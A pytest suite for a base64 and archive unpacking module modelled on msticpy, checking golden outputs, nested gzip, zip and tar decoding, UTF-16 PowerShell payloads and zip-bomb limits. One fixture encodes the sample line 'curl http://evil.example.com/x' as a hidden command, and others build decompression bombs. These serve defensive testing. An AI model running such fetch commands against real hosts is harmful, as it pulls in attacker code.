"""base64unpack: msticpy's test expectations, golden outputs, deliberate differences and limits."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import polars as pl
import pytest

from processors import _frames
from processors.base64unpack import (
    Base64Settings,
    BinaryRecord,
    get_hashes,
    get_items_from_gzip,
    get_items_from_tar,
    get_items_from_zip,
    unpack,
    unpack_df,
    unpack_items,
    unpack_text,
)
from processors.errors import DecodeError, MsticpyException


@pytest.fixture(autouse=True)
def _polars_output() -> Iterator[None]:
    """These tests read the polars API: ``unpack(str)`` returns polars here (pandas is msticpy's default)."""
    with _frames.output_as("polars"):
        yield


RECORD_COLUMNS = [
    "reference",
    "original_string",
    "file_name",
    "file_type",
    "input_bytes",
    "decoded_string",
    "encoding_type",
    "file_hashes",
    "md5",
    "sha1",
    "sha256",
    "printable_bytes",
]


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buf.getvalue()


class TestMsticpyExpectations:
    """test_b64unpack expectations and golden outputs where msticpy is right."""

    def test_base64msg_record_columns_and_members(self, msticpy_testdata: Path) -> None:
        """base64msg.txt: 12 columns; the tar and zip members with msticpy's names, types and md5s."""
        text = (msticpy_testdata / "base64msg.txt").read_text()
        for _ in range(3):  # no global state: repeated calls give the same answer
            decoded, frame = unpack(text)
            assert frame.columns == RECORD_COLUMNS
            members = frame.filter(pl.col("file_type").is_in(["tar", "zip"]))
            assert members.select("file_name", "file_type", "encoding_type", "md5").rows() == [
                ("dllenc.txt", "tar", "utf-8", "9fd687fb66a85f89cc413728a179fb0d"),
                ("txtenc.txt", "tar", "utf-8", "87adcc213a88d165d4da4ad89827c438"),
                ("txtenc.txt.gz", "tar", "binary", "709ca834c405231a89d0c7c9d732fc98"),
                ("dllenc.txt", "zip", "utf-8", "9fd687fb66a85f89cc413728a179fb0d"),
                ("txtenc.txt", "zip", "utf-8", "87adcc213a88d165d4da4ad89827c438"),
                ("txtenc.txt.gz", "zip", "binary", "709ca834c405231a89d0c7c9d732fc98"),
            ]
            assert decoded.startswith(
                "There should be a tar file here:<decoded value='multiple binary' type='multiple' index='1' depth='1'>"
            )
            assert decoded.endswith("</decoded>And this is the end.")
            assert "69fbfeacd07be73e29b7786f663aba07" in frame.get_column("md5").to_list()

    def test_base64msg_nested_layers_are_expanded(self, msticpy_testdata: Path) -> None:
        """The gzip inside each archive and the UTF-16 text inside it are decoded too (msticpy: 8 rows, 2 levels)."""
        _, frame = unpack((msticpy_testdata / "base64msg.txt").read_text())
        assert frame.shape == (14, 12)
        gz_rows = frame.filter(pl.col("file_type") == "gz")
        assert gz_rows.select("reference", "file_name", "encoding_type").rows() == [
            ("1.3.1", "gzip_file", "utf-8"),
            ("2.3.1", "gzip_file", "utf-8"),
        ]
        utf16 = frame.filter(pl.col("encoding_type") == "utf-16")
        assert set(utf16.get_column("decoded_string").to_list()) == {"text\r\nfile\r\n"}

    def test_two_row_frame(self, msticpy_testdata: Path) -> None:
        """The same text twice in a frame gives the rows twice, with 15 columns."""
        text = (msticpy_testdata / "base64msg.txt").read_text()
        frame = pd.DataFrame({"input": [text, text]})
        for out in (unpack_items(data=frame, column="input"), unpack_df(frame, "input")):
            assert isinstance(out, pd.DataFrame)  # pandas in, pandas out
            assert out.shape == (28, 15)
            assert out.columns[-3:].tolist() == ["src_index", "input", "full_decoded_string"]
            assert sorted(set(out["src_index"].tolist())) == [0, 1]

    def test_b64text_inzip(self, msticpy_testdata: Path) -> None:
        """b64text_inzip.txt: the zip member at depth 1 and its UTF-16 content (msticpy: binary) at depth 2."""
        decoded, frame = unpack_items(input_string=(msticpy_testdata / "b64text_inzip.txt").read_text())
        assert frame.select("reference", "file_name", "file_type", "encoding_type", "md5").rows() == [
            ("1", "txtenc.txt", "zip", "utf-8", "87adcc213a88d165d4da4ad89827c438"),
            ("1.1", "unknown", None, "utf-16", "3414109cd3c337be290997995549fa96"),
        ]
        assert "<decoded type='string' name='[zip] Filename: txtenc.txt' index='1' depth='1'>" in decoded

    def test_simple_string_golden(self) -> None:
        """The golden 'simple' case, without msticpy's 'A' padding of the whole input."""
        decoded, frame = unpack_items(input_string="echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgc3RyaW5n | base64 -d")
        assert decoded == (
            "echo <decoded type='string' name='[None]' index='1' depth='1'>hello world this is a test string"
            "</decoded> | base64 -d"
        )
        row = frame.row(0, named=True)
        assert row["md5"] == "c0285c0b09430c6705de7da4b94f016c"
        assert row["sha1"] == "8fc5bd6457fe0a3165176f5418c2f2d6a9fcdbf7"
        assert row["file_hashes"]["sha256"] == "2b4440ae162100e24b66a4e850e9978f8fed4cf8785892d6254c44a1e7f0b533"
        assert row["printable_bytes"].startswith("68 65 6c 6c 6f 20")
        assert row["reference"] == "1"

    def test_nested_golden(self) -> None:
        """The golden 'nested' case; reference is the markup index string, not a tuple."""
        text = "x Y21kIC9jIGRHaHBjeUJwY3lCMGFHVWdhVzV1WlhKdGIzTjBJSE5sWTNKbGRDQnpkSEpwYm1jaElRPT0= y"
        decoded, frame = unpack(text)
        assert decoded == (
            "x <decoded type='string' name='[None]' index='1' depth='1'>cmd /c <decoded type='string' "
            "name='[None]' index='1.1' depth='2'>this is the innermost secret string!!</decoded></decoded> y"
        )
        assert frame.get_column("reference").to_list() == ["1", "1.1"]

    def test_gzip_golden(self) -> None:
        """A base64 gzip gives msticpy's single-member record name."""
        decoded, frame = unpack("data " + _b64(gzip.compress(b"hello from inside gzip archive")))
        assert decoded == (
            "data <decoded type='string' name='[gz] Filename: gzip_file' index='1' depth='1'>"
            "hello from inside gzip archive</decoded>"
        )
        assert frame.select("file_name", "file_type", "encoding_type").row(0) == ("gzip_file", "gz", "utf-8")


class TestBetterThanReference:
    """Deliberate improvements over msticpy."""

    def test_utf16_powershell_without_flag(self) -> None:
        """A UTF-16LE -enc payload decodes to text without utf16=True (msticpy v1.5: 'W\\x00r\\x00...')."""
        decoded, frame = unpack("powershell -enc " + _b64('Write-Host "hello"'.encode("utf-16-le")))
        assert decoded.endswith('>Write-Host "hello"</decoded>')
        assert frame.get_column("encoding_type").to_list() == ["utf-16"]

    def test_hashes_and_paths_are_not_base64(self) -> None:
        """An md5 and a long path are left alone (msticpy decodes them to binary)."""
        text = "hash 00236a2ae558018ed13b5222ef1bd987 path /usr/local/bin/somethinglongerpath12"
        decoded, frame = unpack(text)
        assert decoded == text
        assert frame.shape == (0, 12)

    def test_file_type_from_magic_bytes(self) -> None:
        """File types come from the decoded bytes, including types msticpy does not know."""
        pdf = _b64(b"%PDF-1.4\n" + bytes(range(200)))
        elf = _b64(b"\x7fELF" + bytes(range(200)))
        _, frame = unpack(f"a {pdf} b {elf}")
        assert frame.get_column("file_type").to_list() == ["pdf", "elf"]

    @pytest.mark.parametrize(
        ("compress", "ftype"),
        [(gzip.compress, "gz"), (zlib.compress, "zlib"), (bz2.compress, "bz2"), (lzma.compress, "xz")],
    )
    def test_compressed_layers(self, compress: object, ftype: str) -> None:
        """gzip, zlib, bzip2 and xz layers are decompressed."""
        assert callable(compress)
        result = unpack_text("x " + _b64(compress(b"the hidden command: curl http://evil.example.com/x")))
        assert result.records[0].file_type == ftype
        assert result.records[0].decoded_string == "the hidden command: curl http://evil.example.com/x"

    def test_recursive_archives(self) -> None:
        """A zip inside a tar inside base64 is expanded level by level."""
        inner = _zip({"a.txt": b"first secret text", "b.txt": b"second secret text"})
        outer = _tar({"inner.zip": inner, "readme.txt": b"readme text here"})
        result = unpack_text("payload " + _b64(outer))
        assert [(rec.reference, rec.file_name, rec.file_type, rec.encoding_type) for rec in result.records] == [
            ("1.1", "inner.zip", "tar", "binary"),
            ("1.1.1", "a.txt", "zip", "utf-8"),
            ("1.1.2", "b.txt", "zip", "utf-8"),
            ("1.2", "readme.txt", "tar", "utf-8"),
        ]
        assert not result.partial

    def test_identical_candidates_decoded_once(self) -> None:
        """The same base64 twice in one text gives one record and two replacements."""
        enc = _b64(b"repeated payload string, long enough")
        decoded, frame = unpack(f"{enc} and {enc}")
        assert frame.height == 1
        assert decoded.count("<decoded type='string'") == 2


class TestLimits:
    """Hard limits give partial results, never exceptions or unbounded memory."""

    def test_zip_bomb_is_capped(self) -> None:
        """A highly compressible member beyond max_total_bytes is not expanded."""
        bomb = _zip({"zeros.bin": b"\0" * 5_000_000})
        result = unpack_text(_b64(bomb), settings=Base64Settings(max_total_bytes=1_000_000))
        assert result.partial
        assert "max_total_bytes" in result.limits_hit

    def test_gzip_bomb_is_capped(self) -> None:
        """A gzip expanding beyond the budget is shown as binary and flagged."""
        result = unpack_text(_b64(gzip.compress(b"A" * 3_000_000)), settings=Base64Settings(max_total_bytes=100_000))
        assert "max_total_bytes" in result.limits_hit
        assert result.records[0].encoding_type == "binary"

    def test_members_are_capped(self) -> None:
        """Archives with more members than max_members are cut and flagged."""
        archive = _zip({f"f{i}.txt": f"member number {i} text".encode() for i in range(10)})
        result = unpack_text(_b64(archive), settings=Base64Settings(max_members=3))
        assert "max_members" in result.limits_hit
        assert len(result.records) == 3
        assert "partial='max_members'" in result.decoded_string

    def test_depth_is_capped(self) -> None:
        """Base64 nested deeper than max_depth stops with a flag."""
        payload = b"the innermost payload string!"
        for _ in range(6):
            payload = ("wrap " + _b64(payload)).encode()
        result = unpack_text(payload.decode(), settings=Base64Settings(max_depth=3))
        assert "max_depth" in result.limits_hit
        assert max(rec.reference.count(".") + 1 for rec in result.records) == 3

    def test_corrupt_archive_is_binary(self) -> None:
        """A truncated zip is reported as a binary item, not an exception."""
        broken = _zip({"a.txt": b"some content here to compress" * 10})[:60]
        result = unpack_text(_b64(broken))
        assert result.records[0].encoding_type == "binary"
        assert "corrupt_zip" in result.limits_hit


class TestHelpers:
    """Standalone helpers and argument errors."""

    def test_archive_helpers(self) -> None:
        """get_items_from_* return msticpy's (type, {name: bytes}) shape."""
        assert get_items_from_gzip(gzip.compress(b"abc")) == ("gz", {"gzip_file": b"abc"})
        assert get_items_from_zip(_zip({"x": b"1"})) == ("zip", {"x": b"1"})
        assert get_items_from_tar(_tar({"y": b"2"})) == ("tar", {"y": b"2"})

    def test_corrupt_helper_input_raises_decode_error(self) -> None:
        """Corrupt input to a helper raises DecodeError."""
        with pytest.raises(DecodeError):
            get_items_from_zip(b"PK\x03\x04garbage")

    def test_get_hashes(self) -> None:
        """get_hashes returns md5/sha1/sha256."""
        assert get_hashes(b"") == {
            "md5": "d41d8cd98f00b204e9800998ecf8427e",
            "sha1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        }

    def test_binary_record_fields(self) -> None:
        """BinaryRecord has msticpy's 12 fields in order."""
        assert list(BinaryRecord._fields) == RECORD_COLUMNS

    def test_unpack_items_needs_input(self) -> None:
        """No string and no frame raises MsticpyException."""
        with pytest.raises(MsticpyException):
            unpack_items()

    def test_unpack_df_missing_column(self) -> None:
        """A missing column raises MsticpyException."""
        with pytest.raises(MsticpyException):
            unpack_df(pl.DataFrame({"a": ["x"]}), "b")
